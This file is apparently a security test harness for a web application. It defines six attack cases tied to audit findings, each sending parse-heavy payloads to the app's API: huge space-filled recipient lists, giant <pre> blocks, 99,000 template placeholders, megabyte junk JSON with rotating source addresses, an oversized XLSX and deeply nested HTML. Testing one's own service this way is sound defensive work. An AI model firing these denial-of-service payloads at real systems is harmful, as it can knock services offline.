/** Texts that are slow to parse. */
import { workbookOf } from '../../test/workbook.ts'
import { dataOf } from './api.ts'
import { type Attack, fromNetwork } from './attack.ts'
import { connectMailbox } from './mailbox.ts'

const KB = 1024
const MB = 1024 * KB

const recipients: Attack = {
  finding: 'C2',
  does: 'recipients of spaces',
  async prepare(attacker) {
    const account_uuid = await connectMailbox(attacker, 'writer', { imap: attacker.smtp, smtp: attacker.smtp })
    attacker.onEnd(() => attacker.delete(`/email/accounts/${account_uuid}`))
    const lists = [' ', '<', '"" <', 'a@'].flatMap((text) => [
      [text.repeat(3000)],
      Array.from({ length: 100 }, () => text.repeat(1000 / text.length)),
    ])
    return (n) => attacker.post('/email/messages/compose', { account_uuid, to: lists[n % lists.length] })
  },
}

const formatted: Attack = {
  finding: 'C4',
  does: 'spaces in <pre>, stored and printed',
  async prepare(attacker) {
    const lines = [{ name: 'Desk', quantity: 1, unit_price: 10 }]
    return async (n) => {
      const terms_and_conditions = `<pre>a${' '.repeat(65_500 - (n % 100))}x</pre>`
      const { body } = await attacker.post('/invoices', { title: 'Desk', lines, terms_and_conditions })
      if (body?.data) await attacker.get(`/invoices/${body.data.id}/pdf`)
    }
  },
}

const placeholders: Attack = {
  finding: 'C6',
  does: '99,000 placeholders with a long value',
  async prepare(attacker) {
    const body_html = '{{a}}'.repeat(99_000)
    const { uuid } = await dataOf(attacker.post('/email/templates', { name: 'A', subject: 'A', body_html }))
    attacker.onEnd(() => attacker.delete(`/email/templates/${uuid}`))
    const values = ['&'.repeat(10_000), 'b', '&']
    return (n) => attacker.post(`/email/templates/${uuid}/render`, { variables: { a: values[n % values.length] } })
  },
}

const junk: Attack = {
  finding: 'H1',
  does: 'bodies of junk to forgot-password',
  pause: 250,
  async prepare(attacker) {
    const bodies = [MB - 2, 16 * KB - 2].flatMap((length) => [
      `[${'1,'.repeat(length / 2 - 2)}1]`,
      `{"email":${'['.repeat(length / 2 - 10)}${']'.repeat(length / 2 - 10)}}`,
      JSON.stringify({ email: 'a@'.repeat(length / 2 - 20) }),
    ])
    return (n) => attacker.post('/auth/forgot-password', bodies[n % bodies.length], fromNetwork(n))
  },
}

const workbooks: Attack = {
  finding: 'H2',
  does: 'XLSX of a few texts in many cells',
  atOnce: 2,
  async prepare(attacker) {
    const row = `<row>${'<c t="s"><v>0</v></c>'.repeat(20)}</row>`
    const file = await workbookOf(row.repeat(6000), `<si><t>${'x'.repeat(9990)}</t></si>`)
    return () => {
      const form = new FormData()
      form.append('file', new File([new Uint8Array(file)], 'leads.xlsx'))
      return attacker.post('/leads/imports', form)
    }
  },
}

const templates: Attack = {
  finding: 'M4',
  does: 'nested HTML of templates',
  async prepare(attacker) {
    return async (n) => {
      const body_html = `${['<div>', '<b>', '<td>x'][n % 3]!.repeat(80_000)}a`
      const { body } = await attacker.post('/email/templates', { name: `T${n}`, subject: 'S', body_html })
      if (body?.data) await attacker.delete(`/email/templates/${body.data.uuid}`)
    }
  },
}

export default [recipients, formatted, placeholders, junk, workbooks, templates]
